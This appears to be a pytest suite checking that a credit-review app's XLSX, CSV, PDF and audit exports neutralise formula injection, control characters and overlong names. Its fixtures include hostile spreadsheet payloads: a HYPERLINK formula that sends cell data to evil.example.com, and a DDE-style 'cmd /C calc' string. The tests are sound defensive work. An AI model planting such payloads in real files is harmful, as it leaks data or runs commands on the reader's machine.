"""Exports that cannot be turned against their reader (issue 10 item 6).

A subject name from the platform that starts with = or @ was a live formula in the
XLSX ledger and in ``check --batch --out``; a NUL byte made the day's XLSX ledger
fail; a 10,000-character name made the PDF ledger fail. Each attack here is made
the way it arrives: names saved with reviews as the counter saves them, and a
platform subject applied as a sync applies it.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from creditdesk.safetext import clean_text, csv_cell, looks_like_formula, shorten
from creditdesk.services.audit import AuditTrail
from creditdesk.services.ledger import HEADERS, LedgerFilter, LedgerService, export_ledger
from creditdesk.services.reviews import ReviewService
from support.clock import Clock
from test_ledger import DAY, SUPERVISOR, TZ, UNIT, draft

HOSTILE = {
    1: '=HYPERLINK("http://evil.example.com/?d="&A1,"点击查看")',
    2: "@SUM(1+1)*cmd|' /C calc'!A0",
    3: "+86 591 0000",
    4: "-1+1",
    5: "\t=1+1",
    6: "\r=1+1",
    7: "  =1+1",
    8: "福州\x00顺心\x07贸易\u202e有限公司",
    9: "正常的名称有限公司",
}
LONG_NAME = "福州超长名称" * 1667 + "有限公司"  # 10,006 characters


@pytest.fixture
def hostile_day(engine):
    s = ReviewService(engine, now=Clock(dt.datetime(2026, 11, 20, 9, 0, tzinfo=TZ), step=dt.timedelta(minutes=1)))
    for n, name in HOSTILE.items():
        if engine.dialect.name == "postgresql":  # PostgreSQL stores no NUL at all; \x01 breaks openpyxl alike
            name = name.replace("\x00", "\x01")
        s.finalise(draft(n, name=name))
    # PostgreSQL holds a review's subject name to its column (200): apply caps names there.
    long_name = LONG_NAME[:200] if engine.dialect.name == "postgresql" else LONG_NAME
    s.finalise(draft(10, name=long_name))
    return long_name


def export(engine, tmp_path: Path, fmt: str) -> Path:  # noqa: ANN001
    path = tmp_path / f"ledger.{fmt}"
    export_ledger(engine, AuditTrail(engine), LedgerFilter.day(DAY), fmt, path, SUPERVISOR, unit=UNIT)
    return path


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx_ledger_writes_hostile_names_as_text_never_formulas(engine, hostile_day, tmp_path):
    path = export(engine, tmp_path, "xlsx")  # the NUL name no longer makes openpyxl refuse the workbook
    assert "<f>" not in sheet_xml(path)  # no formula anywhere
    ws = load_workbook(path).worksheets[0]
    col = HEADERS.index("主体名称")
    cells = {str(row[col].value): row[col] for row in ws.iter_rows(min_row=4)}
    for n in (1, 2, 3, 4, 7):  # kept exactly, as text, with Excel's quote prefix
        cell = cells[HOSTILE[n]]
        assert cell.data_type == "s" and cell.quotePrefix, HOSTILE[n]
    assert cells[" =1+1"].data_type == "s" and cells[" =1+1"].quotePrefix  # tab / CR: a space, still guarded
    assert "福州顺心贸易有限公司" in cells  # NUL, BEL and the bidi override removed
    assert not cells[HOSTILE[9]].quotePrefix  # ordinary text untouched
    assert hostile_day in cells  # the full value in the XLSX


def test_csv_ledger_guards_every_formula_start_like_the_xlsx(engine, hostile_day, tmp_path):
    path = export(engine, tmp_path, "csv")
    raw = path.read_text(encoding="utf-8-sig")
    assert "\x00" not in raw and "\u202e" not in raw and "\x07" not in raw
    with path.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    names = [r[HEADERS.index("主体名称")] for r in table[1:]]
    for n in (1, 2, 3, 4):
        assert "'" + HOSTILE[n] in names
    assert "' =1+1" in names and "'  =1+1" in names
    assert HOSTILE[9] in names and hostile_day in names


@pytest.mark.skipif(not shutil.which("pdftotext") or not shutil.which("pdfinfo"), reason="poppler-utils not installed")
def test_pdf_ledger_with_a_10000_character_name_is_written_and_the_data_keeps_it(engine, hostile_day, tmp_path):
    path = export(engine, tmp_path, "pdf")
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True).stdout
    assert int(re.search(r"Pages:\s+(\d+)", info).group(1)) >= 1
    text = re.sub(r"\s+", "", subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout)
    assert "福州超长名称福州超长名称" in text
    assert ("…" in text) is (len(hostile_day) > 400)  # shortened in print (PDF_CELL_CHARS), wrapped below that
    assert "福州顺心贸易有限公司" in text  # controls removed, the name printed
    assert len(text) < 20_000  # not the whole 10,000 characters
    rows = LedgerService(engine).rows(LedgerFilter.day(DAY))
    assert hostile_day in {r.subject_name for r in rows}  # the data keeps the full value


def test_check_batch_out_writes_a_platform_name_as_text(tmp_path):
    """A subject named =HYPERLINK(...) by the platform, checked in a batch with --out."""
    from creditdesk.app import open_app
    from creditdesk.protocol import Position
    from creditdesk.services.apply import ChangeApplier
    from support.city import EPOCH, PERSON_KEY_B64, Feed, uscc
    from test_batch_files import run

    home = tmp_path / "home"
    feed = Feed()
    evil = feed.company(HOSTILE[1], uscc(7))
    ctx = open_app(home)
    try:
        ChangeApplier(ctx.engine).apply([evil], Position(feed.seq, EPOCH, None, "fuzhou", person_key=PERSON_KEY_B64))
    finally:
        ctx.close()
    src, out = tmp_path / "codes.txt", tmp_path / "results.xlsx"
    src.write_text(f"{uscc(7)}\n=1+1\n", encoding="utf-8")
    p = run("--home", str(home), "check", "--batch", str(src), "--matter", "procurement", "--profile", "cangzhou",
            "--out", str(out))  # fmt: skip
    assert p.returncode == 0, p.stderr_text
    assert "<f>" not in sheet_xml(out)
    ws = load_workbook(out).active
    header = [c.value for c in ws[1]]
    name_cell = ws.cell(row=2, column=header.index("名称") + 1)
    assert name_cell.value == HOSTILE[1] and name_cell.data_type == "s" and name_cell.quotePrefix
    query_cell = ws.cell(row=3, column=1)  # the file's own line, an invalid code: text too
    assert query_cell.value == "=1+1" and query_cell.data_type == "s"


def test_audit_export_guards_a_target_like_the_ledger(engine, tmp_path):
    trail = AuditTrail(engine)
    trail.append("lookup", actor=None, target="=HYPERLINK(\"http://evil\")", detail={"query": "@x"})
    out = tmp_path / "audit.csv"
    trail.export(out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert table[1][5] == "'=HYPERLINK(\"http://evil\")"


def test_every_xlsx_writer_goes_through_the_shared_helper():
    """No worksheet cell is written around creditdesk/safetext.py (ws.cell(..., value=) or ws.append)."""
    root = Path(__file__).resolve().parents[1] / "creditdesk"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "safetext.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl" not in text:
            continue
        for i, line in enumerate(text.splitlines(), 1):
            if re.search(r"\.cell\([^)]*value=", line) or re.search(r"\bws\.append\(", line):
                offenders.append(f"{path.relative_to(root)}:{i}: {line.strip()}")
    assert offenders == []


@pytest.mark.parametrize(("text", "formula"), [
    ("=1", True), ("+1", True), ("-1", True), ("@a", True), ("\t1", True), ("\r1", True), (" \u3000=1", True),
    ("a=1", False), ("", False), ("福州", False), ("1-2", False),
])  # fmt: skip
def test_formula_rule(text, formula):
    assert looks_like_formula(text) is formula
    assert (csv_cell(text) != clean_text(text, multiline=True)) is formula


def test_clean_text_and_shorten():
    assert clean_text("a\x00b\x1fc\x7fd\x85e\u200bf\u202eg\ufeffh") == "abcdefgh"
    assert clean_text("第一行\r\n第二行\t完") == "第一行 第二行 完"
    assert clean_text("第一行\r\n第二行\r第三行\t完", multiline=True) == "第一行\n第二行\n第三行 完"
    assert clean_text("\ud800孤") == "孤"
    assert shorten("一二三四五", 3) == "一二…" and shorten("一二三", 3) == "一二三"


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils not installed")
def test_slip_removes_control_characters_before_reportlab(tmp_path):
    """The printed 信用核查单 goes through the same cleaning (slips/render.py _x)."""
    import dataclasses

    from creditdesk.slips import render_review_slip
    from creditdesk.slips.samples import sample_review_slip

    slip = dataclasses.replace(sample_review_slip(), subject_name="福州\x00顺心\x1b贸易\u202e有限公司")
    path = tmp_path / "slip.pdf"
    path.write_bytes(render_review_slip(slip))
    text = re.sub(r"\s+", "", subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True,
                                             check=True).stdout)  # fmt: skip
    assert "福州顺心贸易有限公司" in text
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True).stdout
    assert "\x00" not in info and "\u202e" not in info
